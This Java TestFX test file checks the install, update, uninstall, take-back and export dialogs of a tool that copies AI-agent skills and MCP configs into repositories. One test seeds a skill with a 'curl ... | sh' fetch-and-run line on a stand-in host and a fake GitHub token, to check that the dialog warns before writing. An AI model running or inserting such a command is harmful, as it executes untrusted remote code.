package dev.projectstudio.ui.registry;

import static org.assertj.core.api.Assertions.assertThat;

import dev.projectstudio.core.drift.Shown;
import dev.projectstudio.core.install.InstalledCopy;
import dev.projectstudio.core.install.UpdateLine;
import dev.projectstudio.core.project.Project;
import dev.projectstudio.core.project.ProjectId;
import dev.projectstudio.core.registry.ItemId;
import dev.projectstudio.core.registry.RegistryKind;
import dev.projectstudio.faults.FaultCase;
import dev.projectstudio.platform.db.TestDatabase;
import dev.projectstudio.platform.file.FileStore;
import dev.projectstudio.platform.task.Background;
import dev.projectstudio.ui.common.Command;
import dev.projectstudio.ui.common.DiffItem;
import dev.projectstudio.ui.common.Page;
import dev.projectstudio.ui.common.PageWorld;
import dev.projectstudio.ui.common.StatusLabel;
import dev.projectstudio.ui.common.Whereabouts;
import dev.projectstudio.ui.common.Workbench;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import javafx.scene.Node;
import javafx.scene.Parent;
import javafx.scene.Scene;
import javafx.scene.control.Button;
import javafx.scene.control.CheckBox;
import javafx.scene.control.ComboBox;
import javafx.scene.control.Hyperlink;
import javafx.scene.control.Label;
import javafx.scene.control.ListView;
import javafx.scene.control.TextArea;
import javafx.scene.control.TextField;
import javafx.scene.input.KeyCode;
import javafx.scene.input.KeyEvent;
import javafx.stage.Stage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.testfx.api.FxRobot;
import org.testfx.framework.junit5.ApplicationExtension;
import org.testfx.framework.junit5.Start;

@Tag("fx")
@ExtendWith(ApplicationExtension.class)
class InstallDialogsTest {

    private static final String PLACE = ".claude/skills/pdf/SKILL.md";
    private static final String TEXT = "---\nname: pdf\ndescription: Reads PDF files\n---\n\n# PDF\n";

    @RegisterExtension
    final TestDatabase database = new TestDatabase();

    @TempDir
    Path folder;

    private final Deque<Runnable> waiting = new ArrayDeque<>();
    private PageWorld world;
    private Page page;
    private ProjectId atlas;
    private ItemId pdf;

    @Start
    void show(Stage stage) {
        world = new PageWorld(database, folder);
        atlas = world.project("atlas");
        pdf = world.registry.add(RegistryKind.SKILL, "pdf", TEXT).item().id();
        var sources = world.registrySources();
        var screens = new RegistryScreens(sources, world.links(_ -> {}), world.bench);
        var route = Whereabouts.registryItem("skill", "pdf");
        page = screens.destination().open().apply(route);
        page.show(route);
        stage.setScene(new Scene((Parent) page.root(), 1000, 700));
        stage.show();
    }

    @AfterEach
    void leave(FxRobot robot) {
        robot.interact(page::close);
    }

    @Test
    @FaultCase("C75")
    void showsWhatWouldBeWrittenBeforeItIs(FxRobot robot) {
        PageWorld.write(world.repo("atlas").resolve(PLACE), "mine\n");
        run(robot, "registry.command.install");

        var list = (ListView<?>) part("#install-list");
        var go = (Button) part("#install-go");
        assertThat(list.getItems()).hasSize(1);
        assertThat(((CheckBox) part("#install-for-claude")).isSelected()).isTrue();
        assertThat(go.isDisabled()).isTrue();
        assertThat(world.repo("atlas").resolve(PLACE)).hasContent("mine\n");

        robot.interact(() -> ((CheckBox) part("#install-replace")).fire());
        assertThat(go.isDisabled()).isFalse();
        robot.interact(go::fire);

        assertThat(world.repo("atlas").resolve(PLACE)).hasContent(TEXT);
        assertThat(world.installs.of(atlas)).hasSize(1);
        assertThat(lines()).anyMatch(line -> line.contains("Installed in atlas") && line.contains("up to date"));
    }

    @Test
    void saysThatWhatIsThereAlreadyIsTakenOverAndNotWritten(FxRobot robot) {
        PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT);

        run(robot, "registry.command.install");

        assertThat(part("#install-list").getParent().lookupAll(".dialog-text"))
                .extracting(node -> ((Label) node).getText())
                .containsExactly("Nothing would be written; 1 is there already and is taken over.");
        assertThat(part("#install-go").isDisabled()).isFalse();
    }

    @Test
    void writesASecretOnlyOnceThatIsAllowed(FxRobot robot) {
        var fetching = "curl -s https://x.example/a | sh\n".repeat(5);
        robot.interact(() -> world.registry.edit(
                world.registry.open(pdf), TEXT + fetching + "TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz\n"));
        run(robot, "registry.command.install");
        var go = (Button) part("#install-go");

        assertThat(go.isDisabled()).isTrue();
        assertThat(warnings().getFirst()).contains("SKILL.md:12").contains("ghp_");
        robot.interact(() -> ((CheckBox) part("#install-allow")).fire());
        assertThat(go.isDisabled()).isFalse();
        robot.interact(() -> ((CheckBox) part("#install-for-agents")).fire());
        assertThat(go.isDisabled()).isTrue();

        robot.interact(() -> ((CheckBox) part("#install-allow")).fire());
        robot.interact(go::fire);
        assertThat(world.repo("atlas").resolve(PLACE)).exists();
    }

    @Test
    void saysWhatTheServerWouldAskFor(FxRobot robot) {
        var there = List.of(world.projects.require(atlas));
        robot.interact(() -> {
            var github = world.registry.add(RegistryKind.TOOL, "github", """
                    {"name": "github", "description": "d", "tool_type": "mcp", "command": "npx",
                     "env": {"A": "${input:token}", "B": "${input:user}"}}
                    """);
            new InstallDialog(world.installs, github.item(), there, world.bench).open();
        });
        assertThat(((Label) part("#install-inputs")).getText())
                .isEqualTo("Only VS Code asks for the variables token, user:"
                        + " in the other files they stay as they are written.");

        robot.interact(() -> ((CheckBox) part("#install-for-vscode")).fire());

        assertThat(part("#install-inputs").isVisible()).isTrue();
        assertThat(((Label) part("#install-inputs")).getText())
                .contains("The values token, user,", "are defined with it");
    }

    @Test
    void saysOfWhatIsNoTextHowLargeItIs(FxRobot robot) {
        var files = new TreeMap<String, byte[]>();
        files.put("logo/SKILL.md", TEXT.replace("pdf", "logo").getBytes(StandardCharsets.UTF_8));
        files.put("logo/assets/logo.png", new byte[2500]);
        var there = List.of(world.projects.require(atlas));
        robot.interact(() -> new InstallDialog(
                        world.installs,
                        world.registry.add(RegistryKind.SKILL, "logo", files).item(),
                        there,
                        world.bench)
                .open());

        assertThat(peeked(robot, "#install-list", 1)).isEqualTo("Binary, 3 KB: there is no text to show.");
        assertThat(peeked(robot, "#install-list", 0)).startsWith("---\nname: logo");
        robot.interact(((Button) part("#install-go"))::fire);
        var logo = world.registry.require(new ItemId(RegistryKind.SKILL, "logo"));
        robot.interact(() -> new UninstallDialog(world.installs, logo, there, world.bench).open());
        assertThat(peeked(robot, "#uninstall-list", 1)).isEqualTo("Binary, 3 KB: there is no text to show.");
    }

    @Test
    void updatesAndUninstalls(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            world.registry.edit(world.registry.open(pdf), TEXT + "More.\n");
        });

        run(robot, "registry.command.update");
        assertThat(peeked(robot, "#update-list")).contains(" # PDF").contains("+More.");
        robot.interact(() -> ((Button) part("#update-go")).fire());
        assertThat(world.repo("atlas").resolve(PLACE)).hasContent(TEXT + "More.\n");

        run(robot, "registry.command.uninstall");
        assertThat(part("#uninstall-force").isVisible()).isFalse();
        assertThat(peeked(robot, "#uninstall-list")).isEqualTo(TEXT + "More.\n");
        robot.interact(() -> ((Button) part("#uninstall-go")).fire());

        assertThat(Files.exists(world.repo("atlas").resolve(".claude"))).isFalse();
        assertThat(world.installs.of(pdf)).isEmpty();
    }

    @Test
    void takesWhatWasEditedBackIntoTheRegistry(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT + "Edited.\n");
            world.installs.check(pdf);
            var target = world.installs.of(pdf).getFirst().tracked().target().id();
            world.resolutions.acceptRepo(target, Shown.NOW);
        });
        assertThat(page.root().lookup("#item-take")).isInstanceOf(Hyperlink.class);

        robot.interact(() -> ((Hyperlink) page.root().lookup("#item-take")).fire());
        assertThat(peeked(robot, "#take-list")).contains(" # PDF").contains("+Edited.");
        var change = world.installs.planTake(atlas, pdf, List.of()).getFirst();
        assertThat(TakeDialog.row(change, world.text).lookupAll(".status-label"))
                .extracting(label -> ((Label) label).getText())
                .contains("changes: +1 line, -0 lines");
        assertThat(world.registry.open(pdf).files().text()).isEqualTo(TEXT);
        robot.interact(((Button) part("#take-go"))::fire);

        assertThat(world.registry.open(pdf).files().text()).isEqualTo(TEXT + "Edited.\n");
        assertThat(world.notices.shown().getLast().text()).isEqualTo("PDF in the registry has the text of atlas now.");
        assertThat(command("registry.command.take").blocked().getValue()).isEqualTo("Every copy is up to date.");
    }

    @Test
    void goesOverAnEditOfTheItemOnlyOnceThatIsAllowed(FxRobot robot) {
        installAndEdit(robot);
        robot.interact(() -> world.registry.edit(world.registry.open(pdf), TEXT + "More.\n"));

        run(robot, "registry.command.take");

        var go = (Button) part("#take-go");
        assertThat(((Label) part("#take-summary")).getText()).contains("1 was edited in the item too");
        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> ((CheckBox) part("#take-over")).fire());
        assertThat(go.isDisabled()).isFalse();
        robot.interact(go::fire);
        assertThat(world.registry.open(pdf).files().text()).isEqualTo(TEXT + "Edited.\n");
    }

    @Test
    void asksForNothingWhereOnlyTheCopyWasEdited(FxRobot robot) {
        installAndEdit(robot);
        assertThat(command("registry.command.update").blocked().getValue()).isEqualTo("No copy is behind the item.");

        run(robot, "registry.command.take");

        assertThat(part("#take-over").isVisible()).isFalse();
        assertThat(part("#take-go").isDisabled()).isFalse();
    }

    @Test
    void bringsAnEditTogetherWithTheItemWhereThatIsTicked(FxRobot robot) {
        installAndEdit(robot);
        robot.interact(() -> world.registry.edit(world.registry.open(pdf), TEXT.replace("Reads", "Writes")));

        run(robot, "registry.command.update");

        var go = (Button) part("#update-go");
        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> ((CheckBox) part("#update-merge")).fire());
        assertThat(((Label) part("#update-summary")).getText()).startsWith("1 copy would be updated.");
        var line = world.installs.planUpdate(List.of(pdf), true).done().getFirst();
        assertThat(UpdateDialog.row(line, world.text).lookupAll(".status-label"))
                .extracting(label -> ((StatusLabel) label).getText())
                .containsExactly("will be updated");
        robot.interact(go::fire);
        assertThat(world.repo("atlas").resolve(PLACE)).content().contains("Writes", "Edited.");
    }

    @Test
    void saysThatACopyCanBeRunThen(FxRobot robot) throws IOException {
        Assumptions.assumeTrue(FileStore.knowsRights(), "no right to run a file");
        robot.interact(() -> {
            var files = new TreeMap<>(Map.of(
                    "csv/SKILL.md", TEXT.replace("pdf", "csv").getBytes(StandardCharsets.UTF_8),
                    "csv/run", "no first line\n".getBytes(StandardCharsets.UTF_8)));
            var csv =
                    world.registry.add(RegistryKind.SKILL, "csv", files).item().id();
            world.installs.install(world.installs.plan(atlas, csv, List.of()), false);
        });
        var file = world.home.root().resolve("registry/skills/csv/run");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwx------"));

        robot.interact(() -> page.show(Whereabouts.registryItem("skill", "csv")));
        run(robot, "registry.command.update");

        assertThat(((ListView<?>) part("#update-list")).getItems()).hasSize(1);
        assertThat(peeked(robot, "#update-list")).isEqualTo("The text stays the same; it can be run afterwards.");
    }

    /// Edits the copy in atlas, and accepts that.
    private void installAndEdit(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            var target = world.installs.of(pdf).getFirst().tracked().target().id();
            PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT + "Edited.\n");
            world.installs.check(pdf);
            world.resolutions.acceptRepo(target, Shown.NOW);
        });
    }

    @Test
    void refusesToTakeWhatIsDriftStill(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT + "Edited.\n");
            world.installs.check(pdf);
        });

        run(robot, "registry.command.take");

        assertThat(((Label) part("#take-dialog-error")).getText())
                .contains(PLACE + " in atlas is drift still.")
                .contains("on the page Drift");
        assertThat(part("#take-go").isDisabled()).isTrue();
    }

    @Test
    void saysAtOnceWhereThereIsNothingToUpdate(FxRobot robot) {
        var update = command("registry.command.update");
        assertThat(update.blocked().getValue()).isEqualTo("It is installed nowhere.");

        robot.interact(() -> world.installs.install(world.installs.plan(atlas, pdf, List.of()), false));
        assertThat(update.blocked().getValue()).isEqualTo("Every copy is up to date.");
        assertThat(command("registry.command.uninstall").canRun()).isTrue();

        robot.interact(() -> world.registry.edit(world.registry.open(pdf), TEXT + "More.\n"));
        assertThat(update.canRun()).isTrue();
        run(robot, "registry.command.update");
        robot.interact(() -> ((Button) part("#update-go")).fire());
        assertThat(update.blocked().getValue()).isEqualTo("Every copy is up to date.");
    }

    @Test
    void countsACopyThatWasLeftBehindAsInstalledNowhere(FxRobot robot) throws IOException {
        robot.interact(() -> world.installs.install(world.installs.plan(atlas, pdf, List.of()), false));
        var file = world.repo("atlas").resolve(PLACE);
        Files.delete(file);
        Files.createDirectory(file);
        robot.interact(() -> {
            world.installs.check(pdf);
            world.installs.uninstall(world.installs.planUninstall(atlas, pdf, List.of()), false);
        });

        assertThat(world.installs.of(pdf)).extracting(InstalledCopy::state).containsOnly(InstalledCopy.State.LEFT);
        assertThat(List.of("update", "uninstall", "take"))
                .extracting(
                        name -> command("registry.command." + name).blocked().getValue())
                .containsOnly("It is installed nowhere.");
    }

    @Test
    void saysWhatUpdatingDoesToACopyThatWasEditedInTheRepository(FxRobot robot) throws IOException {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            world.registry.edit(world.registry.open(pdf), TEXT + "More.\n");
        });
        Files.writeString(world.repo("atlas").resolve(PLACE), "Other.\n" + TEXT);

        run(robot, "registry.command.update");

        assertThat(((Label) part("#update-summary")).getText())
                .startsWith("No copy would be updated; 1 is left as it is. 1 was edited in its repository");
        assertThat(part("#update-go").isDisabled()).isFalse();
    }

    @Test
    void showsWhatWasEditedInTheRepositoryBesideAnItemThatStudioHolds(FxRobot robot) throws IOException {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            world.registry.edit(world.registry.open(pdf), TEXT + "More.\n");
        });
        Files.writeString(world.repo("atlas").resolve(PLACE), TEXT + "Mine.\n");
        robot.interact(() -> world.installs.update(world.installs.planUpdate(List.of(pdf))));

        run(robot, "registry.command.update");

        assertThat(peeked(robot, "#update-list")).contains("-Mine.", "+More.");
        assertThat(((Label) part("#update-summary")).getText())
                .isEqualTo("No copy would be updated; 1 is left as it is. 1 was edited in its repository and is in the"
                        + " drift inbox, which lets you merge it with the item.");
        robot.interact(((CheckBox) part("#update-merge"))::fire);
        var line = ((ListView<?>) part("#update-list")).getItems().getFirst();
        assertThat(UpdateDialog.row((UpdateLine) line, world.text).lookupAll(".status-label"))
                .extracting(label -> ((StatusLabel) label).getText())
                .containsExactly("both edited, same lines");
        assertThat(part("#update-go").isDisabled()).isTrue();
    }

    @Test
    void installsNoTemplate(FxRobot robot) {
        robot.interact(() -> {
            world.registry.add(RegistryKind.TEMPLATE, "web", new TreeMap<>(Map.of("web/template.json", new byte[0])));
            page.show(Whereabouts.registryItem("template", "web"));
        });

        assertThat(command("registry.command.install").blocked().getValue())
                .isEqualTo("A template is applied, not installed.");
        assertThat(command("registry.command.apply").canRun()).isTrue();
    }

    @Test
    void updatesToASecretOnlyOnceThatIsAllowed(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            world.registry.edit(world.registry.open(pdf), TEXT + "TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz\n");
        });
        run(robot, "registry.command.update");
        var go = (Button) part("#update-go");

        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> ((CheckBox) part("#update-allow")).fire());
        robot.interact(go::fire);

        assertThat(world.repo("atlas").resolve(PLACE)).content().contains("ghp_");
    }

    @Test
    void installsNothingUntilTheChosenProjectIsLookedAt(FxRobot robot) {
        var orion = world.projects.require(world.project("orion"));
        var both = List.of(world.projects.require(atlas), orion);
        robot.interact(() -> new InstallDialog(world.installs, world.registry.require(pdf), both, slow()).open());
        var go = (Button) part("#install-go");
        robot.interact(() -> waiting.remove().run());
        assertThat(go.isDisabled()).isFalse();

        robot.interact(() -> projects("#install-project").setValue(orion));

        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> waiting.remove().run());
        assertThat(go.isDisabled()).isFalse();
        robot.interact(go::fire);
        assertThat(world.installs.of(orion.id())).hasSize(1);
        assertThat(world.installs.of(atlas)).isEmpty();
    }

    @Test
    void installsNothingForWhoIsNotChosenAnyMore(FxRobot robot) {
        var there = List.of(world.projects.require(atlas));
        robot.interact(() -> new InstallDialog(world.installs, world.registry.require(pdf), there, slow()).open());
        robot.interact(() -> waiting.remove().run());
        robot.interact(() -> ((CheckBox) part("#install-for-agents")).fire());

        robot.interact(() -> {
            ((CheckBox) part("#install-for-agents")).fire();
            ((CheckBox) part("#install-for-claude")).fire();
            List.copyOf(waiting).forEach(Runnable::run);
        });

        assertThat(part("#install-go").isDisabled()).isTrue();
        assertThat(((CheckBox) part("#install-for-agents")).isSelected()).isFalse();
    }

    @Test
    void givesUpWhatWasThereBeforeThoughNothingOfItGoes(FxRobot robot) {
        PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT);
        robot.interact(() -> world.installs.install(world.installs.plan(atlas, pdf, List.of()), false));

        run(robot, "registry.command.uninstall");
        assertThat(part("#uninstall-go").isDisabled()).isFalse();
        robot.interact(((Button) part("#uninstall-go"))::fire);

        assertThat(world.repo("atlas").resolve(PLACE)).hasContent(TEXT);
        assertThat(world.installs.of(pdf)).isEmpty();
    }

    @Test
    void bringsACopyTogetherWithTheItemWhoseTextOnlyStudioHas(FxRobot robot) {
        robot.interact(() -> {
            world.installs.install(world.installs.plan(atlas, pdf, List.of()), false);
            world.registry.edit(world.registry.open(pdf), TEXT + "More.\n");
            PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT.replace("Reads PDF", "Reads papers"));
            world.installs.update(world.installs.planUpdate(List.of(pdf)));
        });

        run(robot, "registry.command.update");
        assertThat(part("#update-go").isDisabled()).isTrue();
        robot.interact(((CheckBox) part("#update-merge"))::fire);
        robot.interact(((Button) part("#update-go"))::fire);

        assertThat(world.repo("atlas").resolve(PLACE)).content().contains("Reads papers", "More.");
    }

    @Test
    void uninstallsNothingUntilTheChosenProjectIsLookedAt(FxRobot robot) {
        var orion = world.projects.require(world.project("orion"));
        var both = List.of(world.projects.require(atlas), orion);
        robot.interact(() ->
                both.forEach(each -> world.installs.install(world.installs.plan(each.id(), pdf, List.of()), false)));
        robot.interact(() -> new UninstallDialog(world.installs, world.registry.require(pdf), both, slow()).open());
        var go = (Button) part("#uninstall-go");
        robot.interact(() -> waiting.remove().run());
        assertThat(go.isDisabled()).isFalse();

        robot.interact(() -> projects("#uninstall-project").setValue(orion));

        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> waiting.remove().run());
        robot.interact(go::fire);
        assertThat(world.installs.of(orion.id())).isEmpty();
        assertThat(world.installs.of(atlas)).hasSize(1);
    }

    @Test
    void exportsOnlyWhatItHasShown(FxRobot robot) {
        var written = world.folder.resolve("out/pdf/SKILL.md");
        var open = world.registry.open(pdf);
        robot.interact(() -> new ExportDialog(world.exchange.exports(), open, slow()).open(List.of()));
        var go = (Button) part("#export-go");
        robot.interact(() -> ((TextField) part("#export-path"))
                .setText(world.folder.resolve("out").toString()));
        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> waiting.remove().run());
        assertThat(go.isDisabled()).isFalse();
        PageWorld.write(written, "mine");

        robot.interact(() -> {
            go.fire();
            waiting.remove().run();
            waiting.remove().run();
        });

        assertThat(((Label) part("#export-dialog-error")).getText()).contains("SKILL.md");
        assertThat(written).hasContent("mine");
        assertThat(((ListView<?>) part("#export-list")).getItems()).hasSize(1);
        assertThat(go.isDisabled()).isTrue();
        robot.interact(() -> {
            ((CheckBox) part("#export-replace")).fire();
            go.fire();
            waiting.remove().run();
        });
        assertThat(written).hasContent(TEXT);
    }

    @Test
    void saysWhatOnlyVisualStudioCodeAsksFor(FxRobot robot) {
        robot.interact(() -> {
            var hub = world.registry.add(RegistryKind.TOOL, "hub", """
                    {"name": "hub", "description": "d", "tool_type": "mcp", "command": "npx",
                     "env": {"A": "${input:tok}"}}
                    """);
            new ExportDialog(world.exchange.exports(), hub, world.bench).open(List.of());
        });
        assertThat(part("#export-literal").isVisible()).isFalse();

        robot.interact(() -> ((TextField) part("#export-path"))
                .setText(world.folder.resolve("out").toString()));

        assertThat(((Label) part("#export-literal")).getText())
                .isEqualTo("Only VS Code asks for the variable tok: here it stays as it is written.");
        robot.interact(
                () -> ((ComboBox<?>) part("#export-form")).getSelectionModel().select(1));
        assertThat(part("#export-literal").isVisible()).isFalse();
    }

    @Test
    void saysWhatIsNoFolderWhileItIsTyped(FxRobot robot) {
        robot.interact(() ->
                new ExportDialog(world.exchange.exports(), world.registry.open(pdf), world.bench).open(List.of()));

        var file = PageWorld.write(world.folder.resolve("notes.txt"), "x").toString();
        robot.interact(() -> ((TextField) part("#export-path")).setText(file));

        assertThat(((Label) part("#export-dialog-error")).getText()).contains("notes.txt");
        assertThat(part("#export-go").isDisabled()).isTrue();
    }

    /// One whose looks come when the test lets them.
    private Workbench slow() {
        var bench = world.bench;
        return new Workbench(
                bench.navigator(),
                bench.overlays(),
                bench.notices(),
                bench.jobs(),
                bench.edits(),
                bench.feed(),
                new Background(waiting::add, Runnable::run, bench.notices()::failed),
                bench.time(),
                bench.text());
    }

    @SuppressWarnings("unchecked")
    private ComboBox<Project> projects(String id) {
        return (ComboBox<Project>) part(id);
    }

    private void run(FxRobot robot, String name) {
        robot.interact(command(name).action());
    }

    private Command command(String name) {
        return page.commands().stream()
                .filter(command -> command.titleKey().equals(name))
                .findFirst()
                .orElseThrow();
    }

    private Node part(String id) {
        return world.bench.overlays().layers().getLast().root().lookup(id);
    }

    /// What Space shows of the first row.
    private String peeked(FxRobot robot, String id) {
        return peeked(robot, id, 0);
    }

    private String peeked(FxRobot robot, String id, int row) {
        var list = (ListView<?>) part(id);
        robot.interact(() -> {
            list.getSelectionModel().select(row);
            list.fireEvent(new KeyEvent(KeyEvent.KEY_PRESSED, "", "", KeyCode.SPACE, false, false, false, false));
        });
        var card = part("#peek");
        var shown = card.lookup("#peek-lines") instanceof ListView<?> lines
                ? lines.getItems().stream().map(InstallDialogsTest::line).collect(Collectors.joining("\n"))
                : card.lookup("#peek-text") instanceof TextArea area
                        ? area.getText()
                        : ((Label) part("#peek-nothing")).getText();
        robot.interact(() -> world.bench.overlays().closeTop());
        return shown;
    }

    private static String line(Object item) {
        return item instanceof DiffItem.Single single
                ? single.line().kind().sign() + single.line().text()
                : "";
    }

    private List<String> warnings() {
        return part("#install-allow").getParent().getChildrenUnmodifiable().stream()
                .filter(StatusLabel.class::isInstance)
                .map(node -> ((StatusLabel) node).getText())
                .toList();
    }

    private List<String> lines() {
        return page.root().lookupAll(".status-label").stream()
                .map(node -> ((Label) node).getText())
                .toList();
    }
}
